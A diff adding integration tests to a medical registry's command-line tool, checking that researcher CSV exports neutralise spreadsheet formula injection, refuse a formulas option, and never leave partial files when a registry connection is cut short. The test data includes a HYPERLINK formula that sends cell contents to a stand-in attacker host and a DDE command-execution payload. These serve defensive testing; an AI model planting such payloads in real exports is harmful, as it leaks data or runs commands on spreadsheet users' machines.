@@ -157,6 +157,75 @@ as dr-a --json record show "$RA" > versions.json
   && [ "$(cat corr.*.json | jq -s '[.[].version] | unique | length')" = 8 ] && ok "each version number once" \
   || fail "version numbers repeat"
 
+# A physician's text that a spreadsheet would run as a formula (CSV injection): the exact
+# extract keeps it as stored, --spreadsheet defangs it with a leading apostrophe.
+TF=$(as dr-a --json patient register --module hip --id family_name=Formel --id given_name=Eva \
+  --id birth_date=1966-06-06 | jq -r '"\(.internal_id) \(.psn_token)"')
+for v in '=HYPERLINK(\"http://evil.example/?\"&A1,\"Corail\")' "+cmd|' /C calc'!A0" '-2+3' '@SUM(A1:A9)' 'Corail -5'; do
+  as dr-a record add --module hip --internal-id "${TF% *}" --token "$(as dr-a --json patient register --module hip \
+    --id family_name=Formel --id given_name=Eva --id birth_date=1966-06-06 | jq -r .psn_token)" \
+    --data "{\"side\":\"left\",\"implant\":\"$v\",\"surgery_date\":\"2022-02-02\"}" >/dev/null \
+    || fail "record with implant $v"
+done
+expect 0 "a third study" -- as admin study create --module hip --name study-3
+expect 0 "the exact extract" -- as researcher export --module hip --study study-3 -o exact.csv
+expect 0 "the extract for spreadsheets" -- as researcher export --module hip --study study-3 --spreadsheet -o sheet.csv
+python3 - exact.csv sheet.csv <<'PY' && ok "exact keeps =,+,-,@ cells as stored; --spreadsheet puts an apostrophe before each, and only those" || fail "formula cells"
+import csv, sys
+def implants(p):
+    rows = list(csv.DictReader(open(p, newline='', encoding='utf-8')))
+    return sorted(r['implant'] for r in rows)
+exact, sheet = implants(sys.argv[1]), implants(sys.argv[2])
+want = ['=HYPERLINK("http://evil.example/?"&A1,"Corail")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', 'Corail -5']
+assert all(w in exact for w in want), exact
+assert len(exact) == len(sheet)
+for e in exact:
+    s = "'" + e if e[:1] in "=+-@\t\r" else e
+    assert s in sheet, (e, sheet)
+PY
+[ "$(wc -l < exact.csv)" = "$(wc -l < sheet.csv)" ] && ok "the same rows in both" || fail "row counts differ"
+status=$(curl -s -o /dev/null -w '%{http_code}' --cacert pki/ca.crt --cert pki/researcher.crt --key pki/researcher.key \
+  "$MEDREG_REGISTRY/v1/export?module=hip&study=study-3&cells=formulas")
+[ "$status" = 400 ] && ok "cells=formulas → 400" || fail "cells=formulas → $status"
+# the extract reaches its file whole or not at all
+cp exact.csv kept.csv
+expect 4 "an export that is refused leaves the file as it was" -- as researcher export --module hip --study nope -o kept.csv
+cmp -s exact.csv kept.csv && ok "the old extract is still there, unchanged" || fail "a refused export changed the file"
+ls kept.csv.tmp.* >/dev/null 2>&1 && fail "a temporary file was left behind" || ok "no temporary file left behind"
+expect 7 "an output folder that is not there: a clear local error" -- as researcher export --module hip --study study-3 -o no-dir/x.csv
+contains "$W/err" "cannot write beside no-dir/x.csv" "the message names the file"
+# a registry that dies in the middle of an extract (its chunked body cut short): the file is not made
+CUTPORT=$((RPORT + 40))
+python3 - "$CUTPORT" <<'PY' &
+import socket, ssl, sys
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+ctx.load_cert_chain("pki/registry.crt", "pki/registry.key")
+ctx.load_verify_locations("pki/ca.crt")
+ctx.verify_mode = ssl.CERT_REQUIRED
+srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+srv.bind(("127.0.0.1", int(sys.argv[1]))); srv.listen(1); srv.settimeout(30)
+open("cut.ready", "w").close()
+c, _ = srv.accept()
+t = ctx.wrap_socket(c, server_side=True)
+req = b""
+while b"\r\n\r\n" not in req:
+    req += t.recv(4096)
+row = b"subject,record,version,recorded_on,side\r\n" + b"a,b,1,2026-01-01,left\r\n" * 50
+t.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/csv\r\nTransfer-Encoding: chunked\r\n\r\n" +
+          b"%x\r\n" % len(row) + row + b"\r\n")
+t.close(); srv.close()
+PY
+CUTPID=$!
+for _ in $(seq 100); do [ -e cut.ready ] && break; sleep 0.1; done
+expect 6 "an extract cut short by the registry fails" -- as researcher --registry "https://127.0.0.1:$CUTPORT" \
+  export --module hip --study study-3 -o cut.csv
+wait "$CUTPID" 2>/dev/null || true
+contains "$W/err" "outstanding read data" "curl says the body was cut short (not that it could not connect)"
+[ ! -e cut.csv ] && ! ls cut.csv.tmp.* >/dev/null 2>&1 && ok "and leaves no file, whole or partial" \
+  || fail "a partial extract was left: $(ls cut.csv* 2>/dev/null)"
+expect 0 "the extract to stdout is the same as to a file" -- as researcher export --module hip --study study-3
+cmp -s "$W/out" exact.csv && ok "stdout and file extracts match" || fail "stdout extract differs"
+
 # The registry never holds identifying data; the identity service holds it only encrypted.
 dump() {
   if [ "$ENGINE" = postgres ]; then pg_dump -p "$PG_PORT" "$(echo "$1" | sed 's|postgresql:///\([^?]*\).*|\1|')"
